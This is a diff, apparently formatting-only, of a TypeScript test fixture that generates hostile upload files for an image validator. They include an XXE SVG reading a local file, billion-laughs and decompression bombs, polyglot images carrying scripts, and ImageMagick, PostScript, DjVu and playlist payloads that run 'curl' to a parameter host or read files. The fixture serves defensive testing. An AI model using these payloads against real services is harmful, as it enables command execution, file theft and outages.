@@ -1,4 +1,5 @@
-// Files that are not what they say, or more than they say (reliability.md, UP1 and UP2). Written here: nothing of it is anybody's.
+// Files that are not what they say, or more than they say (reliability.md, UP1 and UP2). Written here:
+// nothing of it is anybody's.
 import { crc32, deflateSync } from 'node:zlib'
 import sharp from 'sharp'
 
@@ -10,14 +11,19 @@ export interface HostileFile {
 const SCRIPT = '<script>alert("hidden")</script>'
 const file = (what: string, bytes: Buffer | string): HostileFile => ({ what, bytes: Buffer.from(bytes) })
 
-/** @param call something that listens, and must never hear anything; @param path a file that must never be read */
+/**
+ * @param call something that listens, and must never hear anything; @param path a file that must never be
+ * read
+ */
 export const noPictures = async (call: string, path: string): Promise<HostileFile[]> => {
   const { png, jpg } = await plain()
   const other = sharp(png)
   return [
     ...drawings(call, path).map(([what, text]) => file(what, text)),
     ...(await Promise.all(
-      (['webp', 'gif', 'tiff', 'avif'] as const).map(async format => file(`a ${format}`, await other.clone().toFormat(format).toBuffer())),
+      (['webp', 'gif', 'tiff', 'avif'] as const).map(async format =>
+        file(`a ${format}`, await other.clone().toFormat(format).toBuffer()),
+      ),
     )),
     file('EICAR', `X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`),
     file('a page', `<!doctype html>${SCRIPT}`),
@@ -47,13 +53,25 @@ export const noPictures = async (call: string, path: string): Promise<HostileFil
     file('a PNG of another depth', changed(png, 24, 7)),
     file('a PNG of another colour', changed(png, 25, 9)),
     file('a PNG without points', Buffer.concat([png.subarray(0, 33), chunk('IEND')])),
-    file('a PNG of one chunk that is longer than the file', Buffer.concat([png.subarray(0, 33), Buffer.from('7fffffff49444154', 'hex')])),
-    file('the first bytes of a PNG and then a page', Buffer.concat([png.subarray(0, 33), Buffer.from(SCRIPT)])),
-    file('the first bytes of a JPEG and then a page', Buffer.concat([jpg.subarray(0, 20), Buffer.from(SCRIPT)])),
+    file(
+      'a PNG of one chunk that is longer than the file',
+      Buffer.concat([png.subarray(0, 33), Buffer.from('7fffffff49444154', 'hex')]),
+    ),
+    file(
+      'the first bytes of a PNG and then a page',
+      Buffer.concat([png.subarray(0, 33), Buffer.from(SCRIPT)]),
+    ),
+    file(
+      'the first bytes of a JPEG and then a page',
+      Buffer.concat([jpg.subarray(0, 20), Buffer.from(SCRIPT)]),
+    ),
     file('an icon', Buffer.from('00000100010010100000010020006804000016000000', 'hex')),
     file('a bitmap', Buffer.from('424d460000000000000036000000280000000200', 'hex')),
     file('a Photoshop file', '8BPS\u0000\u0001'),
-    file('a DjVu file with a note', `AT&TFORM\u0000\u0000\u0000\u0000DJVUANTa(metadata "\\c\${system('curl ${call}')}")`),
+    file(
+      'a DjVu file with a note',
+      `AT&TFORM\u0000\u0000\u0000\u0000DJVUANTa(metadata "\\c\${system('curl ${call}')}")`,
+    ),
   ]
 }
 
@@ -61,16 +79,29 @@ export const noPictures = async (call: string, path: string): Promise<HostileFil
 export const picturesWithMore = async (): Promise<(HostileFile & { readonly gone: string })[]> => {
   const { png, jpg } = await plain()
   const gone = 'hidden'
-  const text = (type: string, body: Buffer) => Buffer.concat([png.subarray(0, 33), chunk(type, body), png.subarray(33)])
+  const text = (type: string, body: Buffer) =>
+    Buffer.concat([png.subarray(0, 33), chunk(type, body), png.subarray(33)])
   const note = (marker: string, body: string) =>
-    Buffer.concat([jpg.subarray(0, 2), Buffer.from(marker, 'hex'), u16(body.length + 2), Buffer.from(body), jpg.subarray(2)])
+    Buffer.concat([
+      jpg.subarray(0, 2),
+      Buffer.from(marker, 'hex'),
+      u16(body.length + 2),
+      Buffer.from(body),
+      jpg.subarray(2),
+    ])
   return [
     { ...file('a page behind a PNG', Buffer.concat([png, Buffer.from(SCRIPT)])), gone },
     { ...file('a page behind a JPEG', Buffer.concat([jpg, Buffer.from(SCRIPT)])), gone },
     { ...file('a zip behind a PNG', Buffer.concat([png, Buffer.from('PK\u0003\u0004hidden')])), gone },
     { ...file('a note of a PNG', text('tEXt', Buffer.from(`Comment\u0000${SCRIPT}`))), gone },
     { ...file('an unknown part of a PNG', text('prVt', Buffer.from(SCRIPT))), gone },
-    { ...file('XMP of a PNG', text('iTXt', Buffer.from(`XML:com.adobe.xmp\u0000\u0000\u0000\u0000\u0000${SCRIPT}`))), gone },
+    {
+      ...file(
+        'XMP of a PNG',
+        text('iTXt', Buffer.from(`XML:com.adobe.xmp\u0000\u0000\u0000\u0000\u0000${SCRIPT}`)),
+      ),
+      gone,
+    },
     { ...file('a comment of a JPEG', note('fffe', SCRIPT)), gone },
     { ...file('a note of a JPEG', note('ffe1', `http://ns.adobe.com/xap/1.0/\u0000${SCRIPT}`)), gone },
     { ...file('a thumbnail of a JPEG', note('ffe0', `JFXX\u0000\u0010${SCRIPT}`)), gone },
@@ -84,7 +115,13 @@ export const bombs = async (): Promise<HostileFile[]> => {
   const flat = (type: string, prefix: string, megabytes: number) =>
     Buffer.concat([
       png.subarray(0, 33),
-      chunk(type, Buffer.concat([Buffer.from(prefix), deflateSync(Buffer.alloc(megabytes * 1024 * 1024), { level: 9 })])),
+      chunk(
+        type,
+        Buffer.concat([
+          Buffer.from(prefix),
+          deflateSync(Buffer.alloc(megabytes * 1024 * 1024), { level: 9 }),
+        ]),
+      ),
       png.subarray(33),
     ])
   return [
@@ -95,7 +132,10 @@ export const bombs = async (): Promise<HostileFile[]> => {
     file('a JPEG of 65,500 points a side', jpegOf(65_500)),
     file('a note of 50 MB', flat('zTXt', 'Comment\u0000\u0000', 50)),
     file('colours of 20 MB', flat('iCCP', 'profile\u0000\u0000', 20)),
-    file('a GIF of 65,535 points a side', Buffer.from('474946383961ffffffff80000000000000ffffff2c00000000ffffffff0002024401003b', 'hex')),
+    file(
+      'a GIF of 65,535 points a side',
+      Buffer.from('474946383961ffffffff80000000000000ffffff2c00000000ffffffff0002024401003b', 'hex'),
+    ),
   ]
 }
 
@@ -111,11 +151,26 @@ const drawings = (call: string, path: string): [string, string][] => [
     'a drawing with an entity',
     `<!DOCTYPE svg [<!ENTITY x SYSTEM "file://${path}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
   ],
-  ['a drawing of a thousand laughs', `<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "${'&a;'.repeat(100)}">]><svg>${'&b;'.repeat(100)}</svg>`],
-  ['ImageMagick’s own language', `push graphic-context\nviewbox 0 0 640 480\nfill 'url(${call}"|curl ${call}")'\npop graphic-context`],
-  ['ImageMagick’s MSL', `<?xml version="1.0"?><image><read filename="${call}"/><write filename="/tmp/x.php"/></image>`],
-  ['PostScript', `%!PS\nuserdict /setpagedevice undef\nmark /OutputFile (%pipe%curl ${call}) currentdevice putdeviceprops`],
-  ['a list of films', `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n${call}\nconcat:${call}|file://${path}\n#EXT-X-ENDLIST`],
+  [
+    'a drawing of a thousand laughs',
+    `<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "${'&a;'.repeat(100)}">]><svg>${'&b;'.repeat(100)}</svg>`,
+  ],
+  [
+    'ImageMagick’s own language',
+    `push graphic-context\nviewbox 0 0 640 480\nfill 'url(${call}"|curl ${call}")'\npop graphic-context`,
+  ],
+  [
+    'ImageMagick’s MSL',
+    `<?xml version="1.0"?><image><read filename="${call}"/><write filename="/tmp/x.php"/></image>`,
+  ],
+  [
+    'PostScript',
+    `%!PS\nuserdict /setpagedevice undef\nmark /OutputFile (%pipe%curl ${call}) currentdevice putdeviceprops`,
+  ],
+  [
+    'a list of films',
+    `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n${call}\nconcat:${call}|file://${path}\n#EXT-X-ENDLIST`,
+  ],
   ['an address alone', call],
   ['a picture of text', `text:${path}`],
   ['a portable map of another size', 'P6 99999 99999 255\n'],
@@ -143,7 +198,10 @@ const sized = (width: number, height: number): Buffer =>
   Buffer.concat([
     Buffer.from('89504e470d0a1a0a', 'hex'),
     chunk('IHDR', Buffer.concat([u32(width), u32(height), Buffer.from([1, 0, 0, 0, 0])])),
-    chunk('IDAT', deflateSync(Buffer.alloc(Math.min(13_000_000, Math.ceil(width / 8 + 1) * height)), { level: 9 })),
+    chunk(
+      'IDAT',
+      deflateSync(Buffer.alloc(Math.min(13_000_000, Math.ceil(width / 8 + 1) * height)), { level: 9 }),
+    ),
     chunk('IEND'),
   ])
 
